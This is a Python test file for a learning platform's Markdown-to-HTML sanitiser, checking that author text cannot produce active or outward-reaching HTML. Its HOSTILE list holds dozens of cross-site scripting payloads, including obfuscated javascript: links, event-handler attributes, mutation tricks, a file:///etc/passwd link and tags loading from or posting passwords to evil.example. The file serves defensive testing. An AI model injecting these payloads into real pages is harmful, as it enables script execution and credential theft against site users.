"""Markdown of authors: whatever is in it, nothing comes out that could act, reach outside or shadow our own."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from lms.text import markup
from tests.every_case import every_case

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "![a](https://evil.example/track.png)",
    '![a](x "onerror=alert(1)")',
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "[press](javascript:alert(1))",
    "[press](JaVaScRiPt:alert(1))",
    "[press](java\tscript:alert(1))",
    "[press](&#106;avascript:alert(1))",
    "[press](&#x6A;&#x61;vascript&colon;alert(1))",
    "[press](java&NewLine;script:alert(1))",
    "[press](\x01javascript:alert(1))",
    "[press](java\u200bscript:alert(1))",
    "[press](vbscript:msgbox(1))",
    "[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[press](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "[ref]: javascript:alert(1)\n\n[press][ref]",
    '<a href="x" onclick="alert(1)">press</a>',
    '<a href="x" style="position:fixed;inset:0">press</a>',
    '<a href="x" id="csrf_token" name="csrf_token">press</a>',
    '<a href="https://ok.example" class="btn danger" target="_blank">press</a>',
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=x>",
    "<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>go</button></form>",
    "<style>body{background:url(https://evil.example)}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><script>alert(1)</script></textarea>",
    "<xmp><script>alert(1)</script></xmp>",
    "<template><script>alert(1)</script></template>",
    "<title></title><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><?xml version='1.0'?>",
    "<video><source onerror=alert(1)></video><audio src=x>",
    "<details open ontoggle=alert(1)>x</details>",
    "<p onmouseover=alert(1) style=color:red id=main class=card>x</p>",
    "# A heading {: id=csrf_token onclick=alert(1) }",
    "<td background=javascript:alert(1) align='left\" onload=\"x'>x</td>",
    "<abbr title='\"><script>alert(1)</script>'>x</abbr>",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "a <b\x00 onclick=alert(1)>x</b>",
    "<a href='  javascript:alert(1)'>press</a>",
    "<a href='//evil.example' ping='https://evil.example'>press</a>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    '[press](tel:+1" onclick="alert(1))',
    "<p><p title=`onmouseover=alert(1)`>",
    "<a\nhref\n=\njavascript:alert(1)\n>press</a>",
    "<<img src=x onerror=alert(1)//",
]


SCHEME = re.compile(r"([A-Za-z][A-Za-z0-9+.-]*):")
CONTROLS = "".join(map(chr, range(0x21)))  # browsers skip these before an address, and tabs and line ends inside it


class Reader(HTMLParser):
    """Reads cleaned HTML as a browser would and notes what should not be there."""

    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        if tag not in markup.TAGS:
            self.found.append(tag)
        for name, value in attrs:
            if name not in markup.ATTRIBUTES.get(tag, []):
                self.found.append(f"{tag} {name}")
            scheme = SCHEME.match(re.sub(r"[\t\n\r]", "", value or "").lstrip(CONTROLS))
            if name == "href" and scheme and scheme[1].lower() not in markup.PROTOCOLS:
                self.found.append(f"{tag} {name}={value}")

    def handle_comment(self, data):
        self.found.append(f"comment {data}")

    def handle_decl(self, decl):
        self.found.append(f"declaration {decl}")

    def handle_pi(self, data):
        self.found.append(f"instruction {data}")


def unwanted(html):
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader.found


def tags_of(html):
    return re.findall(r"<[^>]+>", html.replace("<tbody>\n<tr>", "<tbody><tr>"))


def test_the_corpus_is_large_enough_and_would_be_noticed_unfiltered():
    assert len(set(HOSTILE)) == len(HOSTILE) >= 34
    assert sum(bool(unwanted(markup._convert(text))) for text in HOSTILE) >= 45


@every_case("text", HOSTILE)
def test_nothing_hostile_comes_out(text):
    assert unwanted(markup.to_html(text)) == []
    assert unwanted(markup.inline_html(text)) == []


@every_case("text", HOSTILE)
def test_each_filter_alone_lets_nothing_act(text):
    html = markup._convert(text)
    _, bleach_cleaner = markup._tools()
    assert unwanted(bleach_cleaner.clean(html)) == []
    assert unwanted(markup.second_filter(html)) == []


@every_case("text", HOSTILE)
def test_cleaning_twice_changes_nothing_more(text):
    once = markup.to_html(text)
    assert markup.clean(once) == once


@every_case("text", HOSTILE)
def test_what_is_taken_out_is_told(text):
    """Whatever was unwanted before the filters is named to the author, with a line of the text."""
    told = markup.dropped(f"First line.\n\n{text}")
    raw = unwanted(markup._convert(text))
    assert bool(told) or not raw or all(one.startswith(("comment", "instruction")) for one in raw), raw
    assert all(1 <= one.line <= 2 + len(text.splitlines()) for one in told)


@pytest.mark.parametrize(
    ("text", "line", "what"),
    [
        ("One.\n\nTwo <img src=x> here.", 3, "<img>"),
        ("One.\n\n<p style=color:red>Two</p>", 3, "style=… on <p>"),
        ("One.\n\nTwo.\n\n[a](javascript:x)", 5, "the address javascript:x of a link"),
        ("One.\n\n<!-- a note -->\n", 3, "a comment"),
        ('One.\n<a class="btn" href="/x">a</a>', 2, "class=… on <a>"),
    ],
)
def test_what_is_dropped_is_named_with_its_line(text, line, what):
    assert markup.dropped(text) == [markup.Dropped(line, what)]


@pytest.mark.parametrize(
    "text",
    [
        "Plain words, **bold**, *slanted* and `code`.",
        "- one\n- two\n\n1. first\n2. second",
        "| a | b |\n|---|:-:|\n| 1 | 2 |",
        "[inside](lesson) [a page](/courses) [a place](#part)",
        "[outside](https://example.org) [mail](mailto:a@b.example) [call](tel:+66)",
        "> quoted\n\n## Heading\n\n### Smaller",
        '<a class="term" href="#term-1">word</a> <abbr title="Convention">CITES</abbr> <sub>2</sub>',
    ],
)
def test_ordinary_text_loses_nothing(text):
    assert markup.dropped(text) == []
    assert tags_of(markup.to_html(text)) == tags_of(markup._convert(text)) != []


@given(st.from_regex(markup.PLAIN, fullmatch=True))
@example("À 5 kg : « oui »")
@example("Two - and 3. words; (all of them)")
def test_plain_words_are_what_the_filters_make_of_them(text):
    assert markup.to_html.__wrapped__(text) == markup.clean(markup._convert(text))
    assert markup.dropped(text) == []


@pytest.mark.parametrize(
    "text", ["# 5", "1. one", "- 5", "a*b*", "a_b_", "`a`", "a<b", "a&b", "[a](b)", "a\nb", "a ", "\\a"]
)
def test_what_may_mean_something_in_markdown_or_html_is_not_plain(text):
    assert not markup.PLAIN.match(text)


def test_a_heading_of_the_page_is_not_an_authors():
    assert markup.to_html("# Large") == "Large"
    assert markup.dropped("# Large") == [markup.Dropped(1, "<h1>")]


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**Bold** word", "<strong>Bold</strong> word"),
        ("1. Not a list", "1. Not a list"),
        ("# 5 boxes", "# 5 boxes"),
        ("- 5 degrees", "- 5 degrees"),
        ("a < b & c", "a &lt; b &amp; c"),
        ("", ""),
    ],
)
def test_one_line_stays_one_line(text, html):
    assert markup.inline_html(text) == html


def test_plain_words_of_html():
    assert markup.plain("<p>One <strong>two</strong>\n  three</p>") == "One two three"


@pytest.mark.parametrize(
    ("html", "read"),
    [
        ("", ""),
        ("<p>One <em>wo</em>rd.</p><p>Two</p>", "One word. Two"),
        ("<h2>Head</h2><p>Text</p>", "Head · Text"),
        ("<p>5 &gt; 3 &amp; <code>x &lt; y</code></p>", "5 > 3 & x < y"),
        ('<figure><img src="a" alt="A &quot;disc&quot;"><figcaption>Look.</figcaption></figure>', 'A "disc" Look.'),
        ("<table><tr><th>a</th><td>b</td></tr></table>", "a · b"),
        ("<ul><li>one</li>\n<li>two</li></ul>", "one · two"),
    ],
)
def test_what_is_read_of_a_page_is_its_words_in_one_line(html, read):
    assert markup.readable(html) == read
